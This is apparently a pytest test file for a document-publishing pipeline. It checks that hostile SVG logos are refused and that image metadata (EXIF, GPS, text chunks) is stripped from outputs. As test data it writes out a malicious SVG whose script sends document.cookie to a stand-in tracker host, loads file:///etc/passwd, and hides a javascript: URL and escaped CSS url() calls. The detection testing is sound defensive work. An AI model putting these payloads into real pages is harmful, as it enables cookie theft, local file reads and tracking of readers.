"""Files from outside the sources are untrusted: a hostile SVG logo is refused at its line before
anything is written, and no image's metadata (EXIF, GPS, text chunks, trailing bytes) reaches an output."""

from __future__ import annotations

import base64
import contextlib
import io
import re
import zipfile
from pathlib import Path

import pikepdf
import pytest
from conftest import GOOD_BODY, GOOD_FRONT, make_source, run_cli
from PIL import Image, PngImagePlugin
from test_publisher import LOGO, content_repo

from pipeline.building.loop import build
from pipeline.options import Options
from pipeline.pictures.dangers import svg_dangers
from pipeline.reading.clean import gif, jpeg, png

SECRET = "Jane Secretphotographer"
HOSTILE = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="60" onload="track()">'
    "<style>@import url(https://tracker.example/a.css);</style>"
    "<script>fetch('https://tracker.example/?'+document.cookie)</script>"
    '<image xlink:href="file:///etc/passwd" width="10" height="10"/>'
    '<image href="https://tracker.example/pixel.png" width="1" height="1"/>'
    '<rect width="10" height="10" fill="#0b5563"/></svg>'
)


def test_a_plain_logo_has_no_dangers_and_each_hostile_part_is_named() -> None:
    assert svg_dangers(LOGO.encode()) == []
    found = " | ".join(svg_dangers(HOSTILE.encode()))
    for part in ("<script>", "onload", "@import", "file:///etc/passwd", "https://tracker.example/pixel.png"):
        assert part in found, part


@pytest.mark.parametrize(
    "svg",
    [
        '<?xml-stylesheet href="https://tracker.example/x.css"?><svg xmlns="http://www.w3.org/2000/svg"/>',
        '<!DOCTYPE svg [<!ENTITY a "aaaa">]><svg xmlns="http://www.w3.org/2000/svg"/>',
        '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><p xmlns="http://www.w3.org/1999/xhtml">x</p></foreignObject></svg>',
        '<svg xmlns="http://www.w3.org/2000/svg"><rect style="fill: u\\72l(https://t.example/)"/></svg>',
        '<svg xmlns="http://www.w3.org/2000/svg"><a href="https://tracker.example/"><rect/></a></svg>',
        '<svg xmlns="http://www.w3.org/2000/svg"><rect fill="url(https://t.example/#g)"/></svg>',
        '<svg xmlns="http://www.w3.org/2000/svg"><a href="#x"><set attributeName="href" to="javascript:alert(1)"/></a></svg>',
    ],
)
def test_what_hides_in_other_corners_of_an_svg_is_found(svg: str) -> None:
    assert svg_dangers(svg.encode())


def test_a_hostile_logo_is_refused_at_its_line_and_nothing_is_written(tmp_path: Path) -> None:
    repo = content_repo(tmp_path)
    (repo / "source" / "logo.svg").write_text(HOSTILE)
    run = run_cli("build", "--tts", "offline", "--quiet", cwd=repo)
    assert run.code == 2, run.err
    assert "source/publisher.yaml:2: error [publisher]: logo 'logo.svg' holds what no page or book may run or fetch" in run.err
    assert "Plain SVG" in run.err and "Traceback" not in run.err
    assert not (repo / "output").exists() or not any((repo / "output").rglob("*.*"))


def _photo() -> bytes:
    image = Image.new("RGB", (64, 48), (200, 80, 40))
    exif = Image.Exif()
    exif[0x013B] = SECRET  # Artist
    exif[0x010E] = f"{SECRET} at home"  # ImageDescription
    exif.get_ifd(0x8825)[2] = (53.0, 28.0, 0.0)  # GPSLatitude
    out = io.BytesIO()
    image.save(out, "JPEG", exif=exif, quality=90, comment=SECRET.encode())
    return out.getvalue() + SECRET.encode()  # and bytes after the image's end


def _drawing() -> bytes:
    info = PngImagePlugin.PngInfo()
    info.add_text("Author", SECRET)
    info.add_itxt("Description", SECRET, zip=True)
    out = io.BytesIO()
    Image.new("RGB", (64, 48), (40, 80, 200)).save(out, "PNG", pnginfo=info)
    return out.getvalue() + SECRET.encode()


def _animation() -> bytes:
    out = io.BytesIO()
    frames = [Image.new("P", (16, 16), i) for i in (1, 2)]
    frames[0].save(out, "GIF", save_all=True, append_images=frames[1:], loop=0, comment=SECRET.encode())
    return out.getvalue() + SECRET.encode()


@pytest.mark.parametrize(("make", "clean"), [(_photo, jpeg), (_drawing, png), (_animation, gif)])
def test_cleaning_keeps_every_pixel_and_drops_every_word(make, clean) -> None:
    dirty = make()
    assert SECRET.encode() in dirty
    cleaned = clean(dirty)
    assert SECRET.encode() not in cleaned and b"GPS" not in cleaned
    with Image.open(io.BytesIO(dirty)) as a, Image.open(io.BytesIO(cleaned)) as b:
        assert a.size == b.size and a.tobytes() == b.tobytes()
        assert getattr(a, "n_frames", 1) == getattr(b, "n_frames", 1)


def test_a_photo_turned_by_its_exif_stays_upright_without_it() -> None:
    image = Image.new("RGB", (60, 20), (255, 255, 255))
    image.paste((0, 0, 0), (0, 0, 10, 20))  # a black band on the left
    exif = Image.Exif()
    exif[0x0112] = 6  # shown turned 90 degrees clockwise
    exif[0x013B] = SECRET
    out = io.BytesIO()
    image.save(out, "JPEG", exif=exif, quality=95)
    cleaned = jpeg(out.getvalue())
    assert SECRET.encode() not in cleaned
    with Image.open(io.BytesIO(cleaned)) as upright:
        assert upright.size == (20, 60) and upright.getexif().get(0x0112) in (None, 1)
        assert upright.convert("L").getpixel((10, 2)) < 60  # the band is now at the top


def _every_byte(folder: Path) -> bytes:
    """Every output's bytes, with what they embed opened: zip entries, data: URIs, PDF streams."""
    found = []
    for path in folder.rglob("*"):
        if not path.is_file():
            continue
        data = path.read_bytes()
        found.append(data)
        if path.suffix == ".epub":
            with zipfile.ZipFile(path) as book:
                found += [book.read(n) for n in book.namelist()]
        if path.suffix == ".html":
            found += [base64.b64decode(m) for m in re.findall(rb"data:image/[a-z]+;base64,([A-Za-z0-9+/=]+)", data)]
        if path.suffix == ".pdf":
            with pikepdf.open(path) as pdf:
                for obj in pdf.objects:
                    if isinstance(obj, pikepdf.Stream):
                        found.append(obj.read_raw_bytes())
                        with contextlib.suppress(pikepdf.PdfError):  # a filter pikepdf cannot undo: raw bytes only
                            found.append(obj.read_bytes())
    return b"\n".join(found)


@pytest.mark.slow
def test_no_image_metadata_reaches_any_output(tmp_path: Path) -> None:
    (tmp_path / "photo.jpg").write_bytes(_photo())
    (tmp_path / "drawing.png").write_bytes(_drawing())
    (tmp_path / "animation.gif").write_bytes(_animation())
    body = GOOD_BODY + "\n## Pictures\n\n![A photo of the rash](photo.jpg)\n\n![A diagram](drawing.png)\n\n![Two frames](animation.gif)\n"
    source = make_source(tmp_path, GOOD_FRONT + "\n" + body)
    out = tmp_path / "out"
    result = build([source], Options(out_dir=out, tts="offline", quiet=True, formats=("html", "pdf", "epub", "read-aloud", "pages")))
    assert {o.status for o in result.outcomes} == {"built"}, [o.error for o in result.outcomes]
    everything = _every_byte(out)
    assert b"rash" in everything  # the pictures' words are there: the search is real
    assert SECRET.encode() not in everything and SECRET.encode("utf-16-be") not in everything
